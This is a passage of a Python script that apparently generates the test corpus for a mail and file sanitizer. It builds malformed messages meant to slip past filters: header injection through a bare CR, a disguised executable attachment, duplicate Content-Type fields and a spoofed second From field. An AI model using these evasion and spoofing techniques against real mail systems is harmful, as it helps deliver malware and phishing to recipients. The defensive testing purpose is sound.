    headers = top_headers("malformed-nul-bytes", "nul\x00subject",
                          [("Content-Type", "text/plain; charset=UTF-8"),
                           ("Content-Transfer-Encoding", "8bit")])
    return message(headers, "NULの前\x00NULの後\r\n二行目です。\r\n".encode("utf-8"))


BARE_TEXT = "改行コードがLFだけのメールです。\n二行目です。"


@case("mail", "malformed-bare-lf.eml",
      "A whole message with bare LF line ends (as written by Unix tools), ISO-2022-JP body.")
def malformed_bare_lf():
    msg = message(top_headers("malformed-bare-lf", fold(words_iso2022jp("LFだけ")),
                              [("Content-Type", "text/plain; charset=ISO-2022-JP")]),
                  iso2022jp_lines(BARE_TEXT) + CRLF)
    return msg.replace(CRLF, b"\n")


@case("mail", "malformed-bare-cr.eml",
      "Bare CR line ends in the body and a bare CR inside a header value (old Mac / smuggling).")
def malformed_bare_cr():
    headers = top_headers("malformed-bare-cr", "bare\rCR",
                          [("Content-Type", "text/plain; charset=UTF-8"),
                           ("Content-Transfer-Encoding", "8bit")])
    return message(headers, "一行目\r二行目\rX-Injected: yes\r\r三行目\r\n".encode("utf-8"))


@case("mail", "malformed-invalid-base64.eml",
      "A UTF-8 text body in base64 with characters outside the alphabet, padding in the middle "
      "and a truncated last quantum.")
def malformed_invalid_base64():
    good = base64.b64encode("正しい部分です。".encode("utf-8"))
    body = good[:20] + b"!!@@" + good[20:] + b"\r\n==QUJD\r\nQUJDRA=\r\nQU\r\n"
    return message(top_headers("malformed-invalid-base64", "bad base64",
                               [("Content-Type", "text/plain; charset=UTF-8"),
                                ("Content-Transfer-Encoding", "base64")]), body)


@case("mail", "malformed-invalid-base64-exe.eml",
      "A PE executable in base64 with junk characters ('*') inserted every 19 characters, named "
      "photo.jpg: a lenient client decoder still gets the executable back.")
def malformed_invalid_base64_exe():
    encoded = base64.b64encode(pe_executable())
    junk = b"*".join(encoded[i:i + 19] for i in range(0, len(encoded), 19))
    lines = CRLF.join(junk[i:i + 76] for i in range(0, len(junk), 76)) + CRLF
    return mixed("malformed-invalid-base64-exe", text_part("写真です。"), [
        part([("Content-Type", "image/jpeg; name=\"photo.jpg\""),
              ("Content-Transfer-Encoding", "base64")], lines),
    ])


@case("mail", "malformed-invalid-qp.eml",
      "Quoted-printable body with invalid escapes (=ZZ, =4), a lone '=' before a space, a "
      "truncated UTF-8 sequence, and a soft line break at the very end.")
def malformed_invalid_qp():
    valid = qp("正しい部分".encode("utf-8")).rstrip(b"\r\n")
    body = valid + b"=ZZ =4 = x=E3=81\r\nline two=\r\n"
    return message(top_headers("malformed-invalid-qp", "bad qp",
                               [("Content-Type", "text/plain; charset=UTF-8"),
                                ("Content-Transfer-Encoding", "quoted-printable")]), body)


@case("mail", "malformed-unknown-charset.eml",
      "A text body labelled charset=x-mugai-unknown holding CP932 bytes.")
def malformed_unknown_charset():
    return message(top_headers("malformed-unknown-charset", "unknown charset",
                               [("Content-Type", "text/plain; charset=x-mugai-unknown"),
                                ("Content-Transfer-Encoding", "8bit")]),
                   "文字コード不明のテキスト\r\n".encode("cp932"))


@case("mail", "malformed-unknown-cte.eml",
      "A text body, then an attachment with Content-Transfer-Encoding: x-gzip64 (unknown): the "
      "attachment cannot be decoded, so it cannot be inspected.")
def malformed_unknown_cte():
    payload = base64.b64encode(zlib.compress(pe_executable()))
    return mixed("malformed-unknown-cte", text_part("圧縮ファイルです。"), [
        part([("Content-Type", "application/octet-stream; name=\"data.bin\""),
              ("Content-Transfer-Encoding", "x-gzip64")], payload + CRLF),
    ])


@case("mail", "malformed-duplicate-content-type.eml",
      "Two Content-Type fields: text/plain first, then multipart/mixed with a PE attachment "
      "(parsers that take the last field see an executable, those that take the first see text).")
def malformed_duplicate_ct():
    inner = multipart("dup", [
        text_part("重複ヘッダーのテストです。"),
        part([("Content-Type", "application/octet-stream; name=\"setup.exe\""),
              ("Content-Transfer-Encoding", "base64")], wrap_b64(pe_executable())),
    ])
    headers = top_headers("malformed-duplicate-content-type", "duplicate content-type",
                          [("Content-Type", "text/plain; charset=us-ascii"),
                           ("Content-Type", "multipart/mixed; boundary=\"dup\"")])
    return message(headers, inner)


@case("mail", "malformed-two-from.eml",
      "Two From fields (a spoofing trick: clients show one, filters check the other).")
def malformed_two_from():
    headers = [("From", "Boss <boss@city.example.jp>"), ("From", "Attacker <attacker@evil.example>")] \
        + top_headers("malformed-two-from", "two from",
                      [("Content-Type", "text/plain; charset=UTF-8"),
                       ("Content-Transfer-Encoding", "8bit")])[1:]
    return message(headers, "差出人が二つあります。\r\n".encode("utf-8"))


@case("mail", "malformed-long-line.eml",
      "An 8bit UTF-8 body whose one line is 12,000 octets (4,000 kanji), far over the 998 limit.")
def malformed_long_line():
    line = "長" * 3990 + "行の終わり" + "。" * 5
    return message(top_headers("malformed-long-line", "long line",
                               [("Content-Type", "text/plain; charset=UTF-8"),
                                ("Content-Transfer-Encoding", "8bit")]),
                   ("冒頭の行\r\n" + line + "\r\n最後の行\r\n").encode("utf-8"))


@case("mail", "malformed-no-header.eml",
      "No header at all: an empty header section (the message starts with a blank line).")
def malformed_no_header():
    return b"\r\nThis message has no header fields at all.\r\nSecond line.\r\n"


# ---------------------------------------------------------------------------------------------
# Single files for `mugai sanitize --file`.

@case("files", "memo-cp932.txt", "Plain text file in CP932 (① ㈱ 髙 ～), CRLF line ends.")
def file_memo_cp932():
    return CP932_TEXT.replace("\n", "\r\n").encode("cp932") + CRLF


@case("files", "memo-utf8.txt", "Plain text file in UTF-8 with 𠮷 and emoji.")
def file_memo_utf8():
    return UTF8_TEXT.encode("utf-8") + b"\n"


@case("files", "notice.html", "The HTML page of html-only.eml as a file: converted to text.")
def file_notice_html():
    return HTML_PAGE.encode("utf-8")


@case("files", "invoice.pdf", "A PE executable named invoice.pdf: rejected.")
def file_invoice_pdf():
    return pe_executable()


@case("files", "update.bin", "A minimal ELF executable: rejected.")
def file_update_bin():
    return elf_executable()


@case("files", "install.sh", "A shell script: removed (nothing is delivered).")
def file_install_sh():
    return SHELL_SCRIPT


@case("files", "minutes.pdf", "A small valid PDF: no module handles PDF yet, so default deny.")
def file_minutes_pdf():
    return minimal_pdf("Minutes")


# ---------------------------------------------------------------------------------------------

README_HEAD = """# mugai samples

Hostile and benign inputs for the golden and oracle tests (`tests/golden`, `tests/oracle`) and
for trying mugai by hand:

    build/gateway/cli/mugai sanitize samples/mail/jp-iso2022jp-nec.eml
    build/gateway/cli/mugai sanitize --file samples/files/memo-cp932.txt -o /tmp/memo.txt

**Provenance.** Every file below is generated by `samples/generate.py` (Python standard library
only, deterministic: fixed dates, ids and bytes) and committed. Nothing was taken from real mail
or real malware. The executables are minimal, field-by-field PE32 and ELF images whose only code
returns 0 (`xor eax,eax; ret`, `exit(0)`): they exist so that libmagic recognises them, not to do
anything. Regenerate with `/usr/bin/python3 samples/generate.py`; `--check` verifies that the
committed files are exactly what the script produces.

Not committed, generated at test time into the build directory by `tests/golden/golden_lib.py`:
the EICAR anti-virus test string (assembled from pieces, because scanners flag repositories that
hold it) as a mail attachment and as a file, and a mail with a 1 MB header line.

Expected results for each sample (exit code, verdict, per-part actions, text that must and must
not appear) are in `tests/golden/expected/<case>.json`.

"""


def build_all():
    return [(directory, name, build(), description) for directory, name, build, description in CASES]


def readme(samples):
    text = README_HEAD
    for directory, title in (("mail", "Mail (`samples/mail/`)"), ("files", "Single files (`samples/files/`)")):
        text += "## %s\n\n| file | bytes | case |\n|---|---|---|\n" % title
        for d, name, data, description in samples:
            if d == directory:
                text += "| `%s` | %d | %s |\n" % (name, len(data), description.replace("|", "\\|"))
        text += "\n"
    return text.encode("utf-8")


def main():
    check = "--check" in sys.argv[1:]
    samples = build_all()
    outputs = [(os.path.join(HERE, d, name), data) for d, name, data, _ in samples]
    outputs.append((os.path.join(HERE, "README.md"), readme(samples)))
    stale = []
    for path, data in outputs:
        assert len(data) < 200 * 1024, path
        if check:
            if not os.path.exists(path) or open(path, "rb").read() != data:
                stale.append(path)
            continue
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    if check and stale:
        print("samples differ from generate.py output:\n  " + "\n  ".join(stale))
        return 1
    print("%s %d samples" % ("checked" if check else "wrote", len(samples)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
